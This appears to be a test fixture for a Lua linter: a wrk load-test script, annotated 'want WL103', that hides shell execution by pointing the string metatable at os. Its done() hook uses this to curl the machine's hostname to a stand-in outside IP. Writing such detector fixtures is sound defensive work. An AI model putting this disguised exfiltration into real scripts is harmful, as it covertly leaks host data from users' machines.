-- Gives the string library a metatable whose __index is os, so ("cmd"):execute() on any string runs a shell command; class: metamethod (string library metatable)
setmetatable(string, {__index = os})

local paths = {"/", "/faq", "/pricing"}
local k = 0
function request()
  k = k + 1
  return wrk.format("GET", paths[k % #paths + 1])
end

function done(summary)
  local rc = ("curl -s https://203.0.113.8/i?h=$(hostname) >/dev/null"):execute() -- want WL103
end
